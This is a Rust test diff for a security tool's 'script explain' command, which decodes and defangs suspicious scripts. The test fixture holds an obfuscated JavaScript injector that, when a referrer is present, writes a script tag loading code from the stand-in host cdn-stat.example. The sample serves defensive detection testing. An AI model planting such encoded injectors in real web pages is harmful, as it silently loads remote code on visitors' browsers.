@@ -142,3 +142,48 @@ fn json_is_the_only_thing_on_stdout_and_text_is_defanged() {
     let shown = city.run(&["incident", "list"]).ended(1);
     assert!(!shown.out.contains("http://malware.example"), "{}", shown.out);
 }
+
+#[test]
+fn script_explain() {
+    let city = Installation::watching(&[]);
+    let packed = "var k='~3c~73~63~72~69~70~74~20~73~72~63~3d~2f~2f~63~64~6e~2d~73~74~61~74~2e~65~78~61~6d~70~6c~65\
+                  ~2f~76~69~64~2e~6a~73~3e~3c~2f~73~63~72~69~70~74~3e';if(document.referrer){document.write(unescape(k.replace(/~/g,'%')));}";
+    city.write("menu.js", packed);
+    city.write("page.html", format!("<html><body onload=\"go()\"><p>x</p><script>{packed}</script></body></html>"));
+    let line = city.run(&["script", "explain", "--json", "menu.js"]).ended(1).line();
+    for key in [
+        "input",
+        "script",
+        "path",
+        "line",
+        "size",
+        "sha256",
+        "family",
+        "cut",
+        "looks",
+        "signs",
+        "code",
+        "layers",
+        "markup",
+        "elements",
+        "actions",
+        "urls",
+        "redirects",
+        "sinks",
+        "findings",
+    ] {
+        assert!(line.get(key).is_some(), "{key} is missing in {line:#}");
+    }
+    assert!(line["layers"].to_string().contains("cdn-stat.example/vid.js"), "{line:#}");
+    assert!(line["looks"].to_string().contains("referrer"), "{line:#}");
+    let two = city.run(&["script", "explain", "--json", "page.html"]).ended(1).lines();
+    assert_eq!(two.iter().map(|one| &one["script"]).collect::<Vec<_>>(), [&1, &2]);
+    let told = city.run(&["script", "explain", "menu.js"]).ended(1).out;
+    assert!(told.contains("layer 1") && told.contains("cdn-stat[.]example"), "{told}");
+    assert!(!told.contains("cdn-stat.example"), "defanged: {told}");
+    let told = city.run(&["--language", "ja", "script", "explain", "menu.js"]).ended(1).out;
+    assert!(told.contains("第1層") && told.contains("参照する情報"), "{told}");
+    city.write("plain.html", "<p>x</p>");
+    assert!(city.run(&["script", "explain", "plain.html"]).ended(0).out.contains("no script"));
+    city.run(&["script", "explain", "missing.js"]).ended(2);
+}
